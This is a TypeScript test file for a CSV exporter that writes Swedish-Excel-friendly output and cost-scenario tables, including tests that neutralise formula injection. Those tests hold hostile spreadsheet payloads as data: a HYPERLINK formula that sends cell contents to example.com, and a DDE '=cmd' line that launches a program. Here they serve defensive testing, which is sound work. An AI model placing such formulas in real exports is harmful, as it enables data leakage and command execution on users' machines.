import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { csvField, csvMoney, csvText, neutralised, scenarioResultCsv, CsvFixed } from '../../src/exchange/csv';
import { evaluateScenario } from '../../src/domain/scenario';
import { Decimal, toFixedHalfUp } from '../../src/domain/money';
import { documentFrom } from '../support';
import { exampleDocument as example } from '../example';

/**
 * A plain RFC 4180 reader for semicolon-separated text with CRLF rows (every row ends with CRLF),
 * written here independently of the writer so that it can check it.
 */
function parseCsv(text: string): string[][] {
  expect(text.startsWith('\ufeff')).toBe(true);
  const source = text.slice(1);
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let pos = 0;
  let quoted = false;
  while (pos < source.length) {
    const ch = source[pos]!;
    if (quoted) {
      if (ch === '"' && source[pos + 1] === '"') {
        field += '"';
        pos += 2;
      } else if (ch === '"') {
        quoted = false;
        pos++;
      } else {
        field += ch;
        pos++;
      }
    } else if (ch === '"' && field === '') {
      quoted = true;
      pos++;
    } else if (ch === ';') {
      row.push(field);
      field = '';
      pos++;
    } else if (ch === '\r' && source[pos + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      pos += 2;
    } else {
      // A bare quote inside a field, CR or LF outside quotes would be a writer fault.
      expect(ch).not.toMatch(/["\r\n]/);
      field += ch;
      pos++;
    }
  }
  expect(quoted).toBe(false);
  expect(field).toBe('');
  expect(row).toEqual([]);
  return rows;
}

describe('csvText: the file Swedish Excel opens', () => {
  it('starts with a BOM, separates cells with semicolons and ends every row with CRLF', () => {
    expect(csvText([['a', 'b'], ['c']])).toBe('\ufeffa;b\r\nc\r\n');
    expect(csvText([])).toBe('\ufeff');
  });

  it('writes å ä ö as UTF-8 after the BOM bytes', () => {
    const text = csvText([['Grön omsorg', 'Åtgärd', 'Övrigt', 'ä']]);
    const bytes = new TextEncoder().encode(text);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder('utf-8').decode(bytes)).toBe(text.slice(1)); // the decoder takes the BOM as a marker, as Excel does
    expect(parseCsv(text)).toEqual([['Grön omsorg', 'Åtgärd', 'Övrigt', 'ä']]);
  });

  it('quotes fields holding a semicolon, a quote, CR or LF and doubles the quotes', () => {
    expect(csvField('a;b')).toBe('"a;b"');
    expect(csvField('5" skärm')).toBe('"5"" skärm"');
    expect(csvField('rad ett\nrad två')).toBe('"rad ett\nrad två"');
    expect(csvField('rad ett\r\nrad två')).toBe('"rad ett\r\nrad två"');
    expect(csvField('a,b')).toBe('a,b');
    expect(csvField('plain text')).toBe('plain text');
  });

  it('writes empty cells for null, undefined and the empty string', () => {
    expect(csvText([[null, undefined, '', 'x']])).toBe('\ufeff;;;x\r\n');
  });

  it('writes Decimals exactly with a decimal comma, no grouping and no unit', () => {
    expect(csvField(new Decimal('1234.5'))).toBe('1234,5');
    expect(csvField(new Decimal('0.75'))).toBe('0,75');
    expect(csvField(new Decimal('1234567890123.456'))).toBe('1234567890123,456');
    expect(csvField(new Decimal('1e20'))).toBe('100000000000000000000');
    expect(csvField(new Decimal('-0'))).toBe('0');
  });

  it('writes money rounded half away from zero to 2 decimals', () => {
    expect(csvField(csvMoney(new Decimal('-1234.5')))).toBe('-1234,50');
    expect(csvField(csvMoney(new Decimal('0.005')))).toBe('0,01');
    expect(csvField(csvMoney(new Decimal('-0.005')))).toBe('-0,01');
    expect(csvField(csvMoney(new Decimal('-0.004')))).toBe('0,00');
    expect(csvField(csvMoney(new Decimal('520000')))).toBe('520000,00');
    expect(csvField(new CsvFixed(new Decimal('12.345'), 1))).toBe('12,3');
  });

  it('writes JavaScript numbers (years, counts) with a decimal comma and refuses non-finite ones', () => {
    expect(csvField(2026)).toBe('2026');
    expect(csvField(-2.5)).toBe('-2,5');
    expect(csvField(0)).toBe('0');
    expect(() => csvField(Number.NaN)).toThrow(RangeError);
    expect(() => csvField(Number.POSITIVE_INFINITY)).toThrow(RangeError);
  });

  it('does not neutralise negative numbers: they stay numbers', () => {
    expect(csvText([[new Decimal('-1234.5'), csvMoney(new Decimal('-1')), -3]])).toBe('\ufeff-1234,5;-1,00;-3\r\n');
  });
});

describe('formula injection: user text that a spreadsheet would run as a formula', () => {
  const triggers = ['=', '+', '-', '\u2212', '@', '\t', '\r', '\uff1d', '\uff0b', '\uff0d', '\uff20'];

  it.each(triggers.map((t) => [JSON.stringify(t), t]))('neutralises a cell starting with %s', (_, trigger) => {
    const text = `${trigger}HYPERLINK("http://example.com/?"&A1;"klicka")`;
    expect(neutralised(text)).toBe(`'${text}`);
    const [[cell]] = parseCsv(csvText([[text]])) as [[string]];
    expect(cell).toBe(`'${text}`);
  });

  it('neutralises the classic payloads', () => {
    for (const payload of ['=1+2', '=cmd|\' /C calc\'!A0', '+1', '-1', '@SUM(A1:A2)', '=HYPERLINK("x")']) {
      expect(neutralised(payload)).toBe(`'${payload}`);
    }
  });

  it('neutralises a trigger after leading spaces, no-break spaces, line breaks or invisible characters', () => {
    for (const lead of [' ', '   ', '\u00a0', '\n', '\u200b', '\ufeff', ' \u3000']) {
      expect(neutralised(`${lead}=1+2`)).toBe(`'${lead}=1+2`);
    }
  });

  it('leaves other text alone, also text with a trigger later on', () => {
    for (const safe of ['Hemma-hosare', '520 tkr', 'a=b', ' text', "'redan text", '1-2', '', '(=)', '#REF']) {
      expect(neutralised(safe)).toBe(safe);
    }
  });

  it('property: a parser recovers every field, neutralised, of random rows', () => {
    const field = fc.oneof(
      fc.string({ unit: 'grapheme', maxLength: 20 }),
      fc.string({ unit: fc.constantFrom(';', '"', '\r', '\n', '\t', '=', '+', '-', '@', '\u2212', ' ', 'a', 'ö', ','), maxLength: 12 }),
    );
    const rows = fc.array(fc.array(field, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 6 });
    fc.assert(
      fc.property(rows, (input) => {
        const parsed = parseCsv(csvText(input));
        expect(parsed).toEqual(input.map((row) => row.map(neutralised)));
        for (const row of parsed) for (const cell of row) expect(FORMULA_TRIGGER.test(cell)).toBe(false);
      }),
      { numRuns: 500 },
    );
  });
});

/** What a spreadsheet could read as a formula start, after skipping whitespace. */
const FORMULA_TRIGGER = /^\s*[=+\-@\u2212]/;

describe('scenarioResultCsv', () => {
  it('writes the year table of the example scenario with the evaluator’s figures, to the öre', () => {
    const document = example();
    const scenario = document.scenarios[1]!;
    const result = evaluateScenario(document, scenario);
    const rows = parseCsv(scenarioResultCsv(document, scenario.id));
    const money = (value: Decimal) => toFixedHalfUp(value, 2).replace('.', ',');

    expect(rows[0]).toEqual(['År', 'Kostnad (kr)', 'Undviken kostnad (kr)', 'Netto (kr)', 'Ackumulerat netto (kr)']);
    const yearRows = rows.slice(1, 1 + result.years.length);
    expect(yearRows).toEqual(result.years.map((y) => [String(y.year), money(y.cost), money(y.avoided), money(y.net), money(y.cumulativeNet)]));
    expect(rows[1 + result.years.length]).toEqual(['Summa', money(result.totals.cost), money(result.totals.avoided), money(result.totals.net), '']);
    // Net is negative in the first year of the example: a plain negative number, not neutralised.
    expect(yearRows[0]![3]).toMatch(/^-\d+,\d\d$/);
  });

  it('writes the initiative and effect tables and the key figures', () => {
    const document = example();
    const scenario = document.scenarios[1]!;
    const result = evaluateScenario(document, scenario);
    const rows = parseCsv(scenarioResultCsv(document, scenario.id));
    const money = (value: Decimal) => toFixedHalfUp(value, 2).replace('.', ',');
    const years = result.years.map((y) => `${y.year} (kr)`);

    const initiativeHeader = rows.findIndex((r) => r[0] === 'Satsning');
    expect(rows[initiativeHeader - 1]).toEqual(['']);
    expect(rows[initiativeHeader]).toEqual(['Satsning', ...years, 'Summa (kr)']);
    result.initiatives.forEach((r, i) => {
      const name = document.initiatives.find((x) => x.id === r.id)!.name;
      expect(rows[initiativeHeader + 1 + i]).toEqual([name, ...r.years.map((y) => money(y.cost)), money(r.total)]);
    });

    const effectHeader = rows.findIndex((r) => r[0] === 'Effekt');
    expect(rows[effectHeader]).toEqual(['Effekt', ...years, 'Summa (kr)']);
    result.effects.forEach((r, i) => {
      expect(rows[effectHeader + 1 + i]).toEqual([scenario.effects[i]!.label, ...r.years.map((y) => money(y.avoided)), money(r.total)]);
    });

    const tail = rows.slice(rows.findIndex((r) => r[0] === 'Nyckeltal'));
    expect(tail).toEqual([
      ['Nyckeltal', 'Värde'],
      ['Kalkylränta (%)', '3'],
      ['Nuvärde (kr)', money(result.totals.npv)],
      ['Återbetalningsår', result.paybackYear === null ? 'Ingen inom perioden' : String(result.paybackYear)],
    ]);
  });

  it('names an effect without a label by its placement types, and leaves out the effect table without effects', () => {
    const document = documentFrom({
      initiatives: [{ id: 'i', name: '=Satsning', start: '2026-01', costLines: [{ kind: 'annual', amountPerYear: '1000' }] }],
      placementTypes: [
        { id: 'hvb', name: 'HVB', unit: 'day', price: '4000', priceYear: 2026 },
        { id: 'fh', name: 'Familjehem', unit: 'day', price: '1000', priceYear: 2026 },
      ],
      scenarios: [
        { id: 'a', name: 'A', startYear: 2026, years: 1, initiativeIds: ['i'], effects: [{ id: 'e', fromPlacementTypeId: 'hvb', toPlacementTypeId: 'fh', perYear: [{ year: 2026, placements: '1', unitsPerPlacement: '10' }] }] },
        { id: 'b', name: 'B', startYear: 2026, years: 1, initiativeIds: ['i'] },
      ],
    });
    const withEffect = parseCsv(scenarioResultCsv(document, 'a'));
    expect(withEffect.find((r) => r[0] === 'HVB → Familjehem')).toEqual(['HVB → Familjehem', '30000,00', '30000,00']);
    // The initiative's name is user text and is neutralised.
    expect(withEffect.find((r) => r[0] === "'=Satsning")).toEqual(["'=Satsning", '1000,00', '1000,00']);
    expect(withEffect.find((r) => r[0] === 'Återbetalningsår')).toEqual(['Återbetalningsår', '2026']);

    const without = parseCsv(scenarioResultCsv(document, 'b'));
    expect(without.some((r) => r[0] === 'Effekt')).toBe(false);
    expect(without.find((r) => r[0] === 'Återbetalningsår')).toEqual(['Återbetalningsår', 'Ingen inom perioden']);
  });

  it('refuses an unknown scenario', () => {
    expect(() => scenarioResultCsv(example(), 'finns-inte')).toThrow();
  });
});
